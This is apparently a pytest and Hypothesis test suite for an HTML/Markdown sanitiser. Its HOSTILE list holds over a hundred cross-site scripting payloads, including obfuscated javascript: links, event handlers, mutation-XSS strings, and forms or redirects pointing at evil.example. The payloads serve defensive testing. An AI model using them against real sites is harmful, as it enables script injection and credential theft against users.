"""Nothing that runs, embeds, asks or dresses itself survives, however it is spelled."""

import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from digest.content import sanitise as sanitise_module
from digest.content.body import read_markdown
from digest.content.remark import remark
from digest.content.sanitise import DROPPED, TAGS, sanitise
from tests.hypertext import again, elements, ids, text_of

HOSTILE = (
    # Scripts and their disguises
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "a <script>alert(1)</script> b",
    "</script><script>alert(1)</script>",
    "<script/src=data:,alert(1)>",
    "<<script>alert(1)//<</script>",
    "<script x>alert(1)</script x>",
    "<!--><script>alert(1)</script>-->",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml <script>alert(1)</script> ?>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "`<script>`alert(1)`</script>`",
    # Addresses that run
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java\tscript:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](&#x6A;&#x61;vascript&#58;alert(1))",
    "[a]( javascript:alert(1))",
    "[a](\x01javascript:alert(1))",
    "[a](vbscript:msgbox(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](DATA:text/html,<script>alert(1)</script>)",
    "![a](data:image/svg+xml,<svg onload=alert(1)>)",
    "[a]: javascript:alert(1)\n\n[a]",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    '<a href="javascript:alert(1)">a</a>',
    '<a href="&#x09;javascript:alert(1)">a</a>',
    '<a href="java&#10;script:alert(1)">a</a>',
    '<a href=" &#14; javascript:alert(1)">a</a>',
    '<a href="feed:javascript:alert(1)">a</a>',
    '<a href="view-source:javascript:alert(1)">a</a>',
    '<a href="digest:../../secret">a</a>',
    '<a href="file:///etc/passwd">a</a>',
    '<a href="blob:https://x/y" ping="https://evil.example/">a</a>',
    '<img src="javascript:alert(1)">',
    '<img src="data:text/html,x" srcset="https://evil.example/x 2x">',
    '<img src=x onerror="alert(1)">',
    "<img src=x:alert(1) onerror=eval(src)>",
    '<img """><script>alert(1)</script>">',
    '<IMG DYNSRC="javascript:alert(1)" LOWSRC="javascript:alert(1)">',
    "![a](x.png \"\\\" onerror=alert(1) x=\\\"\")",
    "![\" onerror=alert(1) x=\"](x.png)",
    "[a](x \"\\\" onclick=alert(1)\")",
    "[a](<x\" onclick=\"alert(1)>)",
    "![<script>alert(1)</script>](https://evil.example/x.png)",
    "![a](x.png '<script>alert(1)</script>')",
    # Event handlers
    "<b onmouseover=alert(1)>a</b>",
    "<b/onclick=alert(1)>a</b>",
    "<b\x0conclick=alert(1)>a</b>",
    "<b ONCLICK='alert(1)'>a</b>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>a</details>",
    "<p onpointerenter=alert(1) tabindex=1 autofocus onfocus=alert(1)>a</p>",
    "<div contenteditable onfocus=alert(1) accesskey=x>a</div>",
    "<xss onscroll=alert(1) style=overflow:auto>a</xss>",
    # Frames, forms, objects
    '<iframe src="https://evil.example/"></iframe>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<form action=https://evil.example><input name=password><button>a</button></form>",
    "<button formaction=javascript:alert(1)>a</button>",
    "<isindex action=javascript:alert(1) type=submit>",
    "<input type=image src=x onerror=alert(1)>",
    "<select><option>a</select>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<video poster=javascript:alert(1)></video>",
    "<portal src=https://evil.example></portal>",
    "<dialog open>a</dialog>",
    "<marquee onstart=alert(1)>a</marquee>",
    "<keygen autofocus onfocus=alert(1)>",
    # The page itself
    '<base href="https://evil.example/">',
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    '<link rel=stylesheet href=https://evil.example/x.css>',
    "<title>a</title>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<html onclick=alert(1)><head><body>a",
    # Style
    "<style>body{display:none}</style>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<style><img src=\"</style><img src=x onerror=alert(1)>\">",
    "<b style='position:fixed;inset:0;background:url(https://evil.example)'>a</b>",
    "<b style=\"width:expression(alert(1))\">a</b>",
    "<font color=red face=x>a</font>",
    "<table background=https://evil.example/x><tr><td background=x bgcolor=red>a</table>",
    # Other notations
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>a</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,x#a'></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><a xlink:href=javascript:alert(1)>a</a></math>",
    "<math href=javascript:alert(1)>a</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>a</maction></math>",
    # What turns into something else when it is read twice
    "<math><mtext><table><mglyph><style><!--</style><p title=\"--&gt;&lt;img src onerror=x&gt;\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<template><img src=x onerror=alert(1)></template>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<p title=\"a>b<img src=x onerror=alert(1)>\">c</p>",
    "<a title='&quot;><img src=x onerror=alert(1)>'>a</a>",
    "<img alt=\"&lt;img src=x onerror=alert(1)&gt;\" src=https://evil.example/>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<table><td><a><b><p><table><i></table></b></a><img src=x onerror=alert(1)>",
    "<b><i></b><a href=x><p></i></a><a onclick=alert(1)>",
    "<h1><table><h2></h1><img/src=x/onerror=alert(1)>",
    "|a|\n|-|\n|<img src=x onerror=alert(1)>|",
    "[^1]\n\n[^1]: <svg onload=alert(1)>",
    "```html\n<script>alert(1)</script>\n```",
    # Names that the page's own scripts or anchors might believe
    "<img name=getElementById id=location src=x>",
    "<form id=document name=body><input name=attributes></form>",
    "<a id=p-1 name=p-1>a</a>\n\nb",
    "<p id=s-x>a</p>\n\n# x",
    "<li id=fn-1>a</li>\n\n[^1]\n\n[^1]: b",
    "<div class='scroll masthead' tabindex=0 role=alert aria-live=assertive>a</div>",
    "<b class=note data-x=1 slot=a is=x part=y itemprop=z hidden inert popover>a</b>",
    "<a target=_top rel=opener download href=https://evil.example>a</a>",
)  # fmt: skip

# Written out once more, so that a slip in the allow-list itself shows.
ACTIVE = frozenset({
    "applet", "audio", "base", "body", "button", "dialog", "embed", "form", "frame", "frameset",
    "head", "html", "iframe", "input", "link", "marquee", "math", "meta", "noscript", "object",
    "option", "param", "plaintext", "portal", "script", "select", "slot", "source", "style", "svg",
    "template", "textarea", "title", "track", "video", "xmp",
})  # fmt: skip
ALLOWED = frozenset({
    "lang", "dir", "id", "title", "class", "href", "hreflang", "src", "alt", "start", "reversed",
    "type", "value", "colspan", "rowspan", "scope", "span", "datetime", "tabindex", "open",
})  # fmt: skip
CLASSES = {"scroll", "footnotes", "footnote-ref", "footnote-back", "start", "center", "end"}
OURS = re.compile(r"(p-\d+|s-\S+|fn-\d+|fnref-\d+)")


def body(text: str, path: str = "content/2023/09/14/storm.md") -> str:
    return read_markdown(text, "en", path, 1, "A title").html


def assert_harmless(html: str) -> None:
    seen = ids(html)
    assert len(seen) == len(set(seen))
    for name, attributes in elements(html):
        assert name in TAGS - ACTIVE
        assert set(attributes) <= ALLOWED
        assert set(attributes.get("class", "").split()) <= CLASSES
        assert OURS.fullmatch(attributes.get("id", "p-1"))
        assert attributes.get("tabindex", "0") == "0"
        assert name in ("div", "pre") or "tabindex" not in attributes
        href = attributes.get("href", "#")
        assert re.match(r"(https?://|mailto:|tel:|#|digest:(content/|/))", href, re.IGNORECASE)
        assert attributes.get("src", "digest:").startswith("digest:")


@pytest.mark.parametrize(
    "scheme", ["javascript", "JavaScript", "data", "vbscript", "file", "digest"]
)
def test_addresses_that_run_or_pretend_are_dropped(scheme: str) -> None:
    html = f'<a href="{scheme}:x">a</a><img src="{scheme}:x" alt="b">'

    assert sanitise(html, "mark") == '<a>a</a><img alt="b">'


def test_there_are_enough_of_them() -> None:
    assert len(set(HOSTILE)) == len(HOSTILE) > 100


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_texts_are_harmless(text: str) -> None:
    for spelled in (text, f"A sentence {text} goes on.", f"> {text}\n\n- {text}\n\n# {text}"):
        html = body(spelled)
        assert_harmless(html)
        assert_harmless(again(html))
        assert_harmless(remark(spelled, "en"))


PIECES = st.sampled_from([
    *HOSTILE, *(f"<{name}>" for name in sorted(TAGS | DROPPED)),
    *(f"</{name}>" for name in sorted(TAGS | DROPPED)), "<p ", "<a href=", '"', "'", ">", "<", "/",
    "onclick=x", "javascript:", "id=x", "<!--", "-->", "]]>", "<![CDATA[", "&lt;", "&#60;", "\n",
    "\n\n", " ", "a", "`", "*", "[", "](", ")", "![", "| ", "|-|\n", "> ", "- ", "# ", "\0", "\f",
])  # fmt: skip


WRITTEN = st.lists(
    st.text(max_size=4) | st.sampled_from(["&amp;", "&quot;", "&lt;", "\u00a0", "a", "中", "“"]),
    min_size=1,
    max_size=4,
).map("".join)
HOSTS = st.from_regex(
    r"[a-z0-9]{1,3}([.-][a-z0-9]{1,3}){0,3}(/[A-Za-z0-9./_=-]{0,5})?", fullmatch=True
)
MARKED = (
    WRITTEN
    | st.builds(
        "<{0}{1}>{2}</{0}>".format, st.sampled_from(["em", "strong", "code"]), st.just(""), WRITTEN
    )
    | st.builds(
        '<a href="http{0}://{1}">{2}</a>'.format, st.sampled_from(["", "s"]), HOSTS, WRITTEN
    )
)
LINES = st.lists(MARKED, min_size=1, max_size=4).map("".join)
TAGGED = st.sampled_from([
    "<p>{}</p>\n", '<p id="p-1">{}</p>\n', '<h1 id="p-2">{}</h1>\n', "<h6>{}</h6>\n",
    '<blockquote>\n<p id="p-3">{}</p>\n</blockquote>\n', '<ul>\n<li id="p-4">{0}</li>\n</ul>\n',
    '<ol start="7">\n<li id="p-5">{0}</li>\n<li>{0}</li>\n</ol>\n', "<p>{}</p>", "<h2>{}</h1>\n",
])  # fmt: skip
RUNNING = st.lists(st.builds(str.format, TAGGED, LINES), max_size=3).map("".join)


@given(RUNNING, st.text("0123456789abcdef", max_size=3))
@example('<p id="p-1">a\u00a0&quot;b&quot; &amp;</p>\n', "0f")
@example('<p><a href="https://a.0">b</a></p>\n', "")
@example('<p><a href="https://a.example/b//c">b</a></p>\n', "")
def test_running_text_is_what_the_sanitiser_makes_of_it(html: str, mark: str) -> None:
    marked = html.replace(' id="', f' id="{mark}')
    cleaned = sanitise_module._cleaner().clean(html)

    assert sanitise_module._running_text(marked, mark) in (cleaned, "")


def test_a_foreign_id_is_no_part_of_running_text() -> None:
    assert sanitise_module._running_text('<p id="p-1">a</p>\n', "mark") == ""
    assert sanitise_module._running_text('<p id="markp-1">a</p>\n<p id="p-2">b</p>\n', "mark") == ""
    assert sanitise_module._running_text('<p id="markp-1">a</p>\n', "mark") == '<p id="p-1">a</p>\n'


@given(st.lists(PIECES, max_size=12).map("".join))
def test_no_mixture_of_them_is_active(text: str) -> None:
    html = body(text)

    assert_harmless(html)
    assert_harmless(again(html))


@given(st.lists(PIECES, max_size=12).map("".join))
def test_a_second_reading_makes_nothing_else_of_it(text: str) -> None:
    """A feed reader's, say. (Formatting that straddles a table moves, as it does in browsers.)"""
    html = sanitise(text, "mark")

    assert text_of(again(html)) == text_of(html)
    for name, attributes in elements(again(again(html))):
        assert name in TAGS - ACTIVE
        assert set(attributes) <= ALLOWED - {"id", "tabindex"}


@pytest.mark.parametrize(
    "text",
    [
        "<p id=p-1>a</p>",
        "<h2 id=s-storm>a</h2>",
        "<div id=p-1 tabindex=0>a</div>",
        "<pre tabindex=0>",
    ],
)
def test_no_text_gives_itself_an_id_or_a_tab_stop(text: str) -> None:
    assert "id=" not in sanitise(text, "mark")
    assert "tabindex" not in sanitise(text, "mark")
    assert "tabindex" not in body(text)


def test_ids_behind_the_mark_stay_without_it() -> None:
    assert sanitise('<p id="mark-p-1">a</p>', "mark-") == '<p id="p-1">a</p>'


@pytest.mark.parametrize(
    ("html", "left"),
    [
        ('<p id="mark-p-1">a</p><p id="p-2">b</p>', '<p id="p-1">a</p><p>b</p>'),
        (
            '<p title="<a> &quot;" id="x" lang="en">a</p>',
            '<p title="&lt;a&gt; &quot;" lang="en">a</p>',
        ),
        ('<div id="x" tabindex="mark-0">a</div>', '<div tabindex="0">a</div>'),
        ('<p id="x">&lt;p id="y"></p>', '<p>&lt;p id="y"&gt;</p>'),
        ('<p id=x>write id="y"</p>', '<p>write id="y"</p>'),
    ],
)
def test_ids_of_both_kinds_are_told_apart(html: str, left: str) -> None:
    assert sanitise(html, "mark-") == left


@pytest.mark.parametrize(
    "html",
    [
        '<p lang="ar" dir="rtl">a</p>',
        '<bdo dir="ltr">a</bdo>',
        '<ol start="3" reversed="" type="a"><li value="5">a</li></ol>',
        '<td colspan="2" rowspan="3" class="end">a</td>',
        '<abbr title="World Trade Organization">WTO</abbr>',
        '<time datetime="2023-09-14">today</time>',
        '<details open=""><summary>a</summary>b</details>',
        "<ruby>月<rp>(</rp><rt>つき</rt><rp>)</rp></ruby>",
        '<a href="mailto:a@b.example" hreflang="en">a</a>',
        "<ins>a</ins><del>b</del><kbd>c</kbd><sub>d</sub><sup>e</sup><mark>f</mark>",
    ],
)
def test_what_running_text_needs_stays(html: str) -> None:
    wrapped = f"<table><tbody><tr>{html}</tr></tbody></table>" if html.startswith("<td") else html

    assert sanitise(wrapped, "mark") == wrapped


@pytest.mark.parametrize(
    ("html", "left"),
    [
        ('<p dir="RTL">a</p>', '<p dir="rtl">a</p>'),
        ('<p dir="x">a</p>', "<p>a</p>"),
        ('<ol start="1e9">a</ol>', "<ol>a</ol>"),
        ("<center>a</center>", "a"),
        ("<p>a<!-- b -->c</p>", "<p>ac</p>"),
        ("<svg><text>a</text></svg>b", "b"),
    ],
)
def test_what_does_not_stay(html: str, left: str) -> None:
    assert sanitise(html, "mark") == left
